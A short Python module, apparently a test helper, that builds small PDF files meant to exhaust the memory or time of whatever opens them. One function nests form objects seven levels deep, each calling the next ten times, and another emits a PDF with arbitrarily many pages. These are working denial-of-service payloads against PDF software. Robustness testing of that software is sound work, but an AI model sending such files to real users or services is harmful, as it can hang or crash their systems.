"""Makes files that attack whoever opens them: small ones that ask for much memory or time."""

from __future__ import annotations


def pdf(objects: list[bytes]) -> bytes:
    """A PDF file of these objects, the first of which is the catalogue."""
    content, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, count = len(content), len(objects) + 1
    content += b"xref\n0 %d\n0000000000 65535 f \n" % count
    content += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    content += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (count, start)
    return bytes(content)


def stream(fields: bytes, content: bytes) -> bytes:
    """A PDF object that is a stream."""
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (fields, len(content), content)


def pdf_page(contents: bytes, resources: bytes = b"", more: tuple[bytes, ...] = ()) -> bytes:
    """A PDF file of one page of 200 × 100 points; more objects begin at number 5."""
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Contents 4 0 R"
            b"/Resources<<%s>>>>" % resources,
            contents,
            *more,
        ]
    )


def nested_forms(levels: int = 7, calls: int = 10) -> bytes:
    """A PDF page whose form calls another form some times, which calls another one, and so on."""
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 200 100]"
    forms = [
        stream(form + b"/Resources<</XObject<</F %d 0 R>>>>" % (number + 1), b"/F Do " * calls)
        for number in range(5, 4 + levels)
    ]
    forms.append(stream(form, b"0 0 9 9 re f " * calls))
    return pdf_page(stream(b"", b"/F Do"), b"/XObject<</F 5 0 R>>", tuple(forms))


def many_pages(count: int) -> bytes:
    """A PDF of many empty pages."""
    kids = b" ".join(b"%d 0 R" % number for number in range(3, 3 + count))
    pages = b"<</Type/Pages/MediaBox[0 0 200 100]/Kids[%s]/Count %d>>" % (kids, count)
    page = b"<</Type/Page/Parent 2 0 R>>"
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", pages, *[page] * count])
